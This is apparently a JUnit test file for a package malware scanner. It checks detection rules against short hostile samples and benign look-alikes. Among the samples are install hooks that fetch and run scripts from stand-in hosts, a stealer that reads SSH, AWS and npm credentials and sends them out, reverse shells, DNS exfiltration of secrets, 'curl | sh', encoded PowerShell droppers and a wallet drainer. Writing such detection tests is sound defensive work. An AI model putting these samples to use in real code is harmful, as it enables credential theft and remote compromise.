package dev.portcullis.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.inspect.rules.ContentRule;
import dev.portcullis.inspect.rules.CredentialHarvesting;
import dev.portcullis.inspect.rules.DnsExfiltration;
import dev.portcullis.inspect.rules.DownloadAndExecute;
import dev.portcullis.inspect.rules.Exfiltration;
import dev.portcullis.inspect.rules.ImportTimeSideEffects;
import dev.portcullis.inspect.rules.Obfuscation;
import dev.portcullis.inspect.rules.RemoteShell;
import dev.portcullis.inspect.rules.SourceFile;
import dev.portcullis.inspect.rules.StartupHooks;
import dev.portcullis.inspect.rules.WalletDrainer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Each content rule on a small malicious-looking sample (with its evidence) and on a benign look-alike. */
class ContentRulesTest {

    private static SourceFile source(String path, String text) {
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        FileKind kind = FileKind.classify(path, bytes, Math.min(bytes.length, 512));
        long longest = text.lines().mapToLong(String::length).max().orElse(0);
        return new SourceFile(path, kind, text, false, bytes.length, longest);
    }

    private static List<Finding> check(ContentRule rule, String path, String text) {
        return rule.check(source(path, text));
    }

    private static Finding only(ContentRule rule, String path, String text) {
        List<Finding> findings = check(rule, path, text);
        assertThat(findings).as("findings of %s on %s", rule.id(), path).hasSize(1);
        return findings.getFirst();
    }

    @Test
    void startupHooks() {
        Finding pth =
                only(new StartupHooks(), "demo-setup.pth", "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\n");
        assertThat(pth.severity()).isEqualTo(Severity.HIGH);
        assertThat(pth.line()).isEqualTo(1);
        assertThat(pth.message()).contains("runs code at every Python start-up");

        Finding pathOnly = only(
                new StartupHooks(),
                "setuptools.pth",
                "import os; enabled = os.environ.get('X') == '1'; enabled and __import__('_hack').add_shim();\n");
        assertThat(pathOnly.severity()).isEqualTo(Severity.LOW);
        assertThat(check(new StartupHooks(), "paths.pth", "/opt/lib/python\n../vendor\n"))
                .isEmpty();

        assertThat(only(new StartupHooks(), "sitecustomize.py", "print('hi')\n").severity())
                .isEqualTo(Severity.MEDIUM);

        Finding setup = only(new StartupHooks(), "demo-1.0/setup.py", """
        from setuptools import setup
        from setuptools.command.install import install
        import urllib.request
        class Evil(install):
            def run(self):
                urllib.request.urlretrieve('https://evil.example/x.sh', '/tmp/x.sh')
        setup(name='demo', cmdclass={'install': Evil})
        """);
        assertThat(setup.severity()) // a build step that fetches a library's source is common (issue 18)
                .isEqualTo(Severity.MEDIUM);
        Finding runs = only(new StartupHooks(), "demo-1.0/setup.py", """
        from setuptools import setup
        from setuptools.command.install import install
        import os, urllib.request
        class Evil(install):
            def run(self):
                urllib.request.urlretrieve('https://evil.example/x.sh', '/tmp/x.sh')
                os.system('sh /tmp/x.sh')
        setup(name='demo', cmdclass={'install': Evil})
        """);
        assertThat(runs.severity()).isEqualTo(Severity.HIGH);

        // npm's install scripts are the npm format's (NpmFormatTest), not a content rule's.
        assertThat(check(
                        new StartupHooks(),
                        "package/package.json",
                        "{\"name\":\"x\",\"scripts\":{\"preinstall\":\"node setup_bun.js\"}}"))
                .isEmpty();
    }

    @Test
    void importTimeSideEffectsTheLightningShape() {
        List<Finding> findings = check(new ImportTimeSideEffects(), "lightning/__init__.py", """
        import os, subprocess, sys, threading
        __version__ = "2.6.2"

        def _start_runtime():
            here = os.path.join(os.path.dirname(__file__), "_runtime")
            subprocess.Popen([sys.executable, os.path.join(here, "start.py")], cwd=here,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

        threading.Thread(target=_start_runtime, daemon=True).start()
        """);
        assertThat(findings).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.message()).contains("background thread at import").contains("output discarded");
            assertThat(f.line()).isEqualTo(9);
            assertThat(f.excerpt()).contains("threading.Thread(target=_start_runtime, daemon=True).start()");
        });

        Finding system = check(
                        new ImportTimeSideEffects(), "pkg/__init__.py", "import os\nos.system('wget http://x/xmrig')\n")
                .getFirst();
        assertThat(system.severity()).isEqualTo(Severity.HIGH);
        assertThat(system.message()).contains("os.system");

        // A function that can run a process, a docstring example, and a helper module: nothing at import.
        assertThat(check(new ImportTimeSideEffects(), "pkg/__init__.py", """
        \"\"\"Usage:
        >>> r = requests.get('https://example.org')
        \"\"\"
        import subprocess
        def run(cmd):
            return subprocess.run(cmd, check=True)
        """))
                .singleElement()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
        // every module may be imported (lightning's payload module was imported by __init__), tests are not
        assertThat(only(new ImportTimeSideEffects(), "pkg/helpers.py", "import os\nos.system('ls')\n")
                        .severity())
                .isEqualTo(Severity.HIGH);
        assertThat(check(new ImportTimeSideEffects(), "pkg/tests/test_cli.py", "import os\nos.system('ls')\n"))
                .isEmpty();
        assertThat(check(new ImportTimeSideEffects(), "pkg/helpers.py", """
        import os
        if __name__ == "__main__":
            os.system('ls')
        """)).isEmpty();
    }

    @Test
    void downloadAndExecuteTheBunLoader() {
        Finding loader = only(new DownloadAndExecute(), "lightning/_runtime/start.py", """
        import os, subprocess, urllib.request, zipfile
        URL = "https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip"
        urllib.request.urlretrieve(URL, "/tmp/bun.zip")
        subprocess.run(["/tmp/bun/bun", "router_runtime.js"])
        """);
        assertThat(loader.severity()).isEqualTo(Severity.HIGH);
        assertThat(loader.message()).contains("downloads a JavaScript runtime").contains("line 4");
        assertThat(loader.line()).isEqualTo(2);

        assertThat(only(new DownloadAndExecute(), "x/miner.sh", "./xmrig -o pool.supportxmr.com:8080\n")
                        .message())
                .contains("miner");
        assertThat(only(
                                new DownloadAndExecute(),
                                "docs/install.py",
                                "print('get it from https://github.com/a/b/releases/download/v1/tool.exe')\n")
                        .severity())
                .isEqualTo(Severity.LOW);
        assertThat(check(
                        new DownloadAndExecute(),
                        "pkg/net.py",
                        "import requests\nrequests.get('https://pypi.org/simple/')\n"))
                .isEmpty();
    }

    @Test
    void obfuscation() {
        StringBuilder js = new StringBuilder("var _0x4f2a=['");
        for (int i = 0; i < 3000; i++) {
            js.append(String.format(java.util.Locale.ROOT, "_0x%04x", i * 7 % 65536))
                    .append(' ');
        }
        js.append("'];function _0x1b3c(_0x2d4e){return _0x4f2a[_0x2d4e];}");
        List<Finding> mangled = check(new Obfuscation(), "pkg/_runtime/router_runtime.js", js.toString());
        assertThat(mangled).extracting(Finding::severity).contains(Severity.HIGH);
        assertThat(mangled).anySatisfy(f -> assertThat(f.message()).contains("mangled like obfuscator output"));
        assertThat(mangled).anySatisfy(f -> assertThat(f.message()).contains("a single line of"));

        Finding decode = only(new Obfuscation(), "pkg/x.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
        assertThat(decode.severity()).isEqualTo(Severity.HIGH);
        assertThat(decode.line()).isEqualTo(2);

        assertThat(only(
                                new Obfuscation(),
                                "pkg/y.py",
                                "s = chr(111)+chr(115)+chr(46)+chr(115)+chr(121)+chr(115)+chr(116)\n")
                        .severity())
                .isEqualTo(Severity.MEDIUM);

        java.util.Random random = new java.util.Random(3);
        byte[] blob = new byte[3000];
        random.nextBytes(blob);
        Finding encoded = only(
                new Obfuscation(),
                "pkg/z.py",
                "DATA = '" + java.util.Base64.getEncoder().encodeToString(blob) + "'\n");
        assertThat(encoded.message()).contains("encoded blob of 4000 characters");

        assertThat(check(new Obfuscation(), "pkg/plain.py", "def add(a, b):\n    return a + b\n"))
                .isEmpty();
    }

    @Test
    void credentialHarvesting() {
        Finding stealer = only(new CredentialHarvesting(), "pkg/collect.py", """
        import os, json, urllib.request
        keys = open(os.path.expanduser('~/.ssh/id_rsa')).read()
        aws = open(os.path.expanduser('~/.aws/credentials')).read()
        npm = open(os.path.expanduser('~/.npmrc')).read()
        urllib.request.urlopen('https://collector.example/', data=json.dumps([keys, aws, npm]).encode())
        """);
        assertThat(stealer.severity()).isEqualTo(Severity.HIGH);
        assertThat(stealer.message())
                .contains("SSH keys")
                .contains("AWS credentials")
                .contains("npm tokens")
                .contains("network");
        assertThat(stealer.line()).isEqualTo(2);

        assertThat(only(new CredentialHarvesting(), "runner.js", "const m = fs.readFileSync(`/proc/${pid}/mem`)\n")
                        .message())
                .contains("another process's memory");
        // twine and distutils read .pypirc to upload: low, also next to network code.
        assertThat(only(new CredentialHarvesting(), "twine/settings.py", "import requests\nCONFIG = '~/.pypirc'\n")
                        .severity())
                .isEqualTo(Severity.LOW);
    }

    @Test
    void exfiltration() {
        List<Finding> findings = check(new Exfiltration(), "pkg/send.js", """
        fetch('https://discord.com/api/webhooks/123/abc', {method: 'POST', body: data});
        fetch('http://94.154.172.43/v1/telemetry');
        octokit.repos.createForAuthenticatedUser({name: 'x', description: 'A Mini Shai-Hulud has Appeared'});
        """);
        assertThat(findings)
                .extracting(Finding::severity)
                .containsExactly(Severity.HIGH, Severity.LOW, Severity.MEDIUM, Severity.MEDIUM);
        assertThat(findings.get(0).message()).contains("worm");
        assertThat(findings.get(3).excerpt()).contains("94.154.172.43");

        // creating a repository is a GitHub client's API (PyGithub, octokit): weak alone
        assertThat(only(new Exfiltration(), "github/AuthenticatedUser.py", """
        def create_repo(self, name):
            return self._requester.requestJsonAndCheck("POST", "/user/repos", input={"name": name})
        """).severity())
                .isEqualTo(Severity.LOW);

        assertThat(check(
                        new Exfiltration(),
                        "pkg/dev.py",
                        "URL = 'http://127.0.0.1:8000/'\nDOC = 'http://192.168.1.1/'\n"))
                .isEmpty();
    }

    /** Documentation is not code: a URL in a comment line is no download, but code after a comment still counts. */
    @Test
    void commentLinesAreNotCode() {
        String documented = """
                const { spawn } = require('child_process');
                // Bun is https://github.com/oven-sh/bun/releases: see its docs
                /*
                 * also see https://bun.sh/install
                 */
                module.exports = () => spawn('ls');
                """;
        assertThat(check(new DownloadAndExecute(), "package/lib/run.js", documented))
                .isEmpty();
        String smuggled = """
                const { spawn } = require('child_process');
                /* docs */ fetch('https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip');
                const url = "http://x//y"; // a URL in a string is not a comment
                """;
        assertThat(only(new DownloadAndExecute(), "package/lib/run.js", smuggled)
                        .severity())
                .isEqualTo(Severity.HIGH);
        // An unterminated block comment blanks to the end, in one pass however long the file.
        String open = "/*\n" + "x\n".repeat(200_000);
        assertThat(source("package/a.js", open).text().isBlank()).isTrue();
        // Python and shell: lines starting with '#', but not a first-line shebang.
        SourceFile script = source("demo/run.py", "#!/usr/bin/env python3\n# urlopen('https://x')\nx = 1\n");
        assertThat(script.text()).startsWith("#!/usr/bin/env python3\n ").doesNotContain("urlopen");
    }

    /** Credentials named far apart in a large bundle are not one stealer; close together, next to a send, they are. */
    @Test
    void credentialReadsCountWhenTheyAreCloseTogether() {
        String spread = "const a = ['.npmrc'];\n" + "x();\n".repeat(200) + "const b = '.ssh/id_rsa';\n"
                + "y();\n".repeat(200) + "fetch('https://api.example/');\n";
        Finding far = only(new CredentialHarvesting(), "package/dist/bundle.js", spread);
        assertThat(far.severity()).isEqualTo(Severity.LOW);
        assertThat(far.explain()).contains("at most 1 within 50 lines");
        String close = """
                const os = require('os');
                const npm = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
                const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
                fetch('https://collector.example/', { method: 'POST', body: npm + key });
                """;
        assertThat(only(new CredentialHarvesting(), "package/index.js", close).severity())
                .isEqualTo(Severity.HIGH);
        // .env files are every web framework's: with npm tokens and a fetch, worth a look, not a quarantine.
        String guarded = "deny: ['.env', '.npmrc'],\nfetch(url);\n";
        assertThat(only(new CredentialHarvesting(), "package/dist/server.js", guarded)
                        .severity())
                .isEqualTo(Severity.MEDIUM);
    }

    /** chalk/debug 2025: fetch and XMLHttpRequest replaced, addresses swapped for the drainer's own. */
    @Test
    void walletDrainer() {
        StringBuilder drainer = new StringBuilder("const _a=[");
        java.util.Random random = new java.util.Random(7);
        for (int i = 0; i < 12; i++) {
            drainer.append("'0x")
                    .append(String.format(java.util.Locale.ROOT, "%040x", new java.math.BigInteger(160, random)))
                    .append("',");
        }
        drainer.append("'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'];\n")
                .append(
                        "const f=window.fetch;window.fetch=async function(...a){const r=await f(...a);return swap(r);};\n")
                .append("XMLHttpRequest.prototype.send=function(b){return send.call(this, swap(b));};\n");
        Finding critical = only(new WalletDrainer(), "package/source/index.js", drainer.toString());
        assertThat(critical.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(critical.explain()).contains("carries 13 cryptocurrency addresses");

        Finding hooked = only(
                new WalletDrainer(),
                "package/index.js",
                "const o=globalThis['fetch'];globalThis['fetch']=(u,i)=>o(u,i);\nif(window.ethereum){}\n");
        assertThat(hooked.severity()).isEqualTo(Severity.HIGH);

        // A fetch polyfill installs itself; a web3 library names the wallet and carries contract addresses.
        assertThat(check(new WalletDrainer(), "package/fetch.js", "if (!self.fetch) { self.fetch = fetch; }\n"))
                .isEmpty();
        assertThat(
                        check(
                                new WalletDrainer(),
                                "package/web3.js",
                                "const ens = '0x00000000000C2E074eC69A0dFb2997BA6C7d2e1e';\nconst p = window.ethereum;\nif (res === fetch) {}\n"))
                .isEmpty();
    }

    @Test
    void remoteShells() {
        String python = "import socket, os, pty\n"
                + "def _init():\n"
                + "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
                + "    s.connect(('203.0.113.9', 4444))\n"
                + "    os.dup2(s.fileno(), 0)\n"
                + "    os.dup2(s.fileno(), 1)\n"
                + "    os.dup2(s.fileno(), 2)\n"
                + "    pty.spawn('/bin/sh')\n";
        Finding dup = only(new RemoteShell(), "pkg/__init__.py", python);
        assertThat(dup.severity()).isEqualTo(Severity.HIGH);
        assertThat(dup.line()).isEqualTo(5);
        assertThat(dup.message()).contains("reverse shell").contains("pty.spawn");

        String subprocess = "import socket,subprocess\nc=socket.create_connection(('198.51.100.4',443))\n"
                + "subprocess.call(['/bin/sh','-i'],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())\n";
        assertThat(only(new RemoteShell(), "setup.py", subprocess).severity()).isEqualTo(Severity.HIGH);

        String node = "const net = require('net'), cp = require('child_process');\n"
                + "const client = new net.Socket();\n"
                + "client.connect(8443, '203.0.113.9', () => {\n"
                + "  const sh = cp.spawn('/bin/sh', []);\n"
                + "  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);\n"
                + "});\n";
        assertThat(only(new RemoteShell(), "package/index.js", node).severity()).isEqualTo(Severity.HIGH);

        // Benign look-alikes: a daemon pointing its streams at /dev/null while also serving a socket; a build tool
        // spawning a shell and piping it to the console while checking a port.
        String daemon = "import os, socket\nsrv = socket.socket()\nsrv.bind(('', 8080))\n"
                + "null = open(os.devnull)\nos.dup2(null.fileno(), 0)\n";
        assertThat(check(new RemoteShell(), "daemon.py", daemon)).isEmpty();
        String build = "const net = require('net');\nconst probe = net.connect(3000);\n"
                + "const sh = require('child_process').spawn('sh', ['-c', cmd]);\nsh.stdout.pipe(process.stdout);\n";
        assertThat(check(new RemoteShell(), "package/run.js", build)).isEmpty();
    }

    @Test
    void encodedPowerShell() {
        String dropper =
                "import subprocess\nsubprocess.Popen(['powershell.exe', '-NoP', '-W', 'Hidden', '-EncodedCommand',"
                        + " 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'])\n";
        assertThat(only(new RemoteShell(), "pkg/win.py", dropper).severity()).isEqualTo(Severity.HIGH);
        String shortForm = "os.system(\"powershell -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==\")\n";
        assertThat(only(new RemoteShell(), "pkg/w.py", shortForm).severity()).isEqualTo(Severity.HIGH);
        String docs = "subprocess.run(['powershell', '-NoProfile', '-Command', 'Get-ChildItem'])\n";
        assertThat(check(new RemoteShell(), "pkg/tools.py", docs)).isEmpty();
    }

    @Test
    void dnsExfiltration() {
        String python = "import os, socket, binascii\n"
                + "data = binascii.hexlify(os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode()).decode()\n"
                + "for i in range(0, len(data), 60):\n"
                + "    socket.gethostbyname(data[i:i + 60] + '.x.oast-collector.example')\n";
        Finding exfil = only(new DnsExfiltration(), "pkg/__init__.py", python);
        assertThat(exfil.severity()).isEqualTo(Severity.HIGH);
        assertThat(exfil.line()).isEqualTo(4);

        String node = "const dns = require('dns'); const os = require('os');\n"
                + "const id = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');\n"
                + "dns.lookup(`${id}.d.example.net`, () => {});\n";
        assertThat(only(new DnsExfiltration(), "package/postinstall.js", node).severity())
                .isEqualTo(Severity.HIGH);

        // Benign: resolving a configured host; hex elsewhere in the file without a built name.
        String client = "import os, socket\nhost = os.environ.get('DB_HOST', 'localhost')\n"
                + "addr = socket.gethostbyname(host)\ntoken = os.urandom(8).hex()\n";
        assertThat(check(new DnsExfiltration(), "pkg/db.py", client)).isEmpty();
    }

    @Test
    void setupPyRunsAtInstallWithoutAnyCmdclass() {
        String dropper = "import os, urllib.request\nfrom setuptools import setup\n"
                + "urllib.request.urlretrieve('https://files.example.net/u.bin', '/tmp/u')\n"
                + "os.system('curl -s https://203.0.113.7/x | sh')\n"
                + "setup(name='reqeusts', version='1.0')\n";
        List<Finding> findings = check(new ImportTimeSideEffects(), "reqeusts-1.0/setup.py", dropper);
        assertThat(findings)
                .extracting(Finding::severity, Finding::line)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(Severity.HIGH, 3),
                        org.assertj.core.groups.Tuple.tuple(Severity.HIGH, 4));
        assertThat(findings.getFirst().message())
                .isEqualTo("setup.py makes a network request when pip builds or installs the package");

        // What real setup.py files do at module level: the version from git, a version file exec'd, a publish helper.
        String benign = "import os, subprocess, sys\nfrom setuptools import setup\n"
                + "version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
                + "exec(open('pkg/_version.py').read())\n"
                + "if sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')\n"
                + "setup(name='pkg', version=version)\n";
        assertThat(check(new ImportTimeSideEffects(), "pkg-1.0/setup.py", benign))
                .extracting(Finding::severity)
                .containsOnly(Severity.LOW);
    }

    @Test
    void decodeAndRunVariants() {
        String fernet = "from cryptography.fernet import Fernet\nk = b'q0Z3dGVzdGtleXRlc3RrZXl0ZXN0a2V5dGVzdGtleXQ='\n"
                + "exec(Fernet(k).decrypt(b'gAAAAABl...'))\n";
        assertThat(check(new Obfuscation(), "pkg/__init__.py", fernet))
                .extracting(Finding::severity, Finding::line)
                .contains(org.assertj.core.groups.Tuple.tuple(Severity.HIGH, 3));
        String indirect =
                "m = __import__('marshal')\nrun = getattr(__import__('builtins'), 'exec')\nrun(m.loads(blob))\n";
        assertThat(check(new Obfuscation(), "pkg/_core.py", indirect))
                .extracting(Finding::severity)
                .contains(Severity.HIGH);
        String zlib = "exec(__import__('zlib').decompress(payload))\n";
        assertThat(check(new Obfuscation(), "pkg/x.py", zlib))
                .extracting(Finding::severity)
                .contains(Severity.HIGH);
        // Benign: decrypting data (not code), importing a module by a computed name.
        String benign = "from cryptography.fernet import Fernet\nsecret = Fernet(key).decrypt(token)\n"
                + "mod = __import__(name)\nresult = eval_expression(config)\n";
        assertThat(check(new Obfuscation(), "pkg/vault.py", benign)).isEmpty();
    }
}
